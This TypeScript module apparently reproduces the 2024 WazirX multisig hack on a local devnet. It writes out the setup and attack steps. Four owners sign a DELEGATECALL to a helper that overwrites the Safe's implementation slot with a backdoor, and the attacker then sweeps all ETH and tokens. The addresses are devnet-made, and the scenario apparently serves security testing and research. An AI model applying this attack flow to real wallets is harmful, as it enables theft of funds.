import { encodeFunctionData, numberToHex, parseAbi, parseEther, zeroAddress } from 'viem'
import type { Address, Hex } from '../../core/hex.js'
import type { SafeTx } from '../../safe/types.js'
import { devnetContract } from '../devnetContract.js'
import { sendAs } from '../execSafeTransaction.js'
import { deployContract } from '../placeContract.js'
import type { Devnet } from '../startDevnet.js'
import { scenarioKey } from './scenarioKeys.js'
import { deployDevToken, deployScenarioSafe, execScenarioSafeTx } from './scenarioParts.js'

/**
 * The WazirX pattern (18 Jul 2024): the same trick as Bybit on a Safe 1.3.0: owners sign a
 * DELEGATECALL to a helper whose "transfer" writes slot 0, handing the Safe to attacker code that
 * then sweeps it. Addresses are devnet-made (CREATE/CREATE2), not WazirX's real ones.
 */
export type WazirxSetup = {
  safe: Address
  safeVersion: '1.3.0'
  owners: Address[]
  threshold: number
  token: Address
  helper: Address
  backdoor: Address
  attacker: Address
  /** The malicious SafeTx the owners are about to sign (nonce 0). */
  safeTx: SafeTx
  /** Keys of the signing owners (devnet-derived, see scenarioKey). */
  signerKeys: Hex[]
  balances: { eth: bigint; token: bigint }
  addresses: Record<string, Address>
}

const backdoorAbi = parseAbi([
  'function sweepETH(address destination)',
  'function sweepERC20(address token, address destination)',
])
const writerAbi = parseAbi(['function transfer(address recipient, uint256 amount)'])

/**
 * Sets up the WazirX-like victim: a 4-of-6 Safe 1.3.0 deployed through the real factory, holding
 * 5,000 ETH and 20,000,000 of a USDT-like token, plus the attacker's helper and backdoor.
 *
 * @example
 * const wazirx = await setupWazirx(devnet)
 * wazirx.safeTx.operation // 1 (DELEGATECALL)
 */
export async function setupWazirx(devnet: Devnet): Promise<WazirxSetup> {
  const safe = await deployScenarioSafe(devnet, {
    name: 'wazirx',
    version: '1.3.0',
    owners: 6,
    threshold: 4,
    saltNonce: 2024_07_18n,
  })
  const owners = safe.owners
  const attacker = scenarioKey('wazirx/attacker').address
  const balances = { eth: parseEther('5000'), token: 20_000_000n * 10n ** 6n }
  const token = await deployDevToken(devnet, {
    name: 'Tether USD (devnet)',
    symbol: 'USDT',
    decimals: 6,
    mint: [[safe.address, balances.token]],
  })
  await devnet.request('hardhat_setBalance', [safe.address, numberToHex(balances.eth)])
  const helper = (
    await deployContract(devnet, { ...devnetContract('SlotZeroWriter'), from: attacker })
  ).address
  const backdoor = (
    await deployContract(devnet, {
      ...devnetContract('SweepBackdoor'),
      args: [attacker],
      from: attacker,
    })
  ).address
  const safeTx: SafeTx = {
    to: helper,
    value: 0n,
    data: encodeFunctionData({ abi: writerAbi, functionName: 'transfer', args: [backdoor, 0n] }),
    operation: 1,
    safeTxGas: 45_746n,
    baseGas: 0n,
    gasPrice: 0n,
    gasToken: zeroAddress,
    refundReceiver: zeroAddress,
    nonce: 0n,
  }
  const addresses = {
    'wazirx/safe': safe.address,
    'wazirx/token': token,
    'wazirx/helper': helper,
    'wazirx/backdoor': backdoor,
    'wazirx/attacker': attacker,
  }
  Object.assign(devnet.addresses, addresses)
  return {
    safe: safe.address,
    safeVersion: '1.3.0',
    owners: owners.map((o) => o.address),
    threshold: 4,
    token,
    helper,
    backdoor,
    attacker,
    safeTx,
    signerKeys: owners.slice(0, 4).map((o) => o.privateKey),
    balances,
    addresses,
  }
}

export type WazirxAttackResult = {
  execTransactionHash: Hex
  safeTxHash: Hex
  sweepTransactionHashes: { eth: Hex; token: Hex }
}

/**
 * Four owners sign the DELEGATECALL, it executes (slot 0 := backdoor), then the attacker sweeps
 * ETH and tokens to itself: the Safe ends with nothing.
 *
 * @example
 * await attackWazirx(devnet, await setupWazirx(devnet))
 */
export async function attackWazirx(
  devnet: Devnet,
  setup: WazirxSetup,
): Promise<WazirxAttackResult> {
  const exec = await execScenarioSafeTx(
    devnet,
    {
      safe: { address: setup.safe, version: '1.3.0' },
      tx: setup.safeTx,
      signers: setup.signerKeys,
      from: setup.attacker,
    },
    'WazirX DELEGATECALL',
  )
  await devnet.request('evm_increaseTime', ['0x3c'])
  const eth = await sendAs(devnet, setup.attacker, {
    to: setup.safe,
    data: encodeFunctionData({
      abi: backdoorAbi,
      functionName: 'sweepETH',
      args: [setup.attacker],
    }),
  })
  const token = await sendAs(devnet, setup.attacker, {
    to: setup.safe,
    data: encodeFunctionData({
      abi: backdoorAbi,
      functionName: 'sweepERC20',
      args: [setup.token, setup.attacker],
    }),
  })
  return {
    execTransactionHash: exec.transactionHash,
    safeTxHash: exec.safeTxHash,
    sweepTransactionHashes: { eth, token },
  }
}
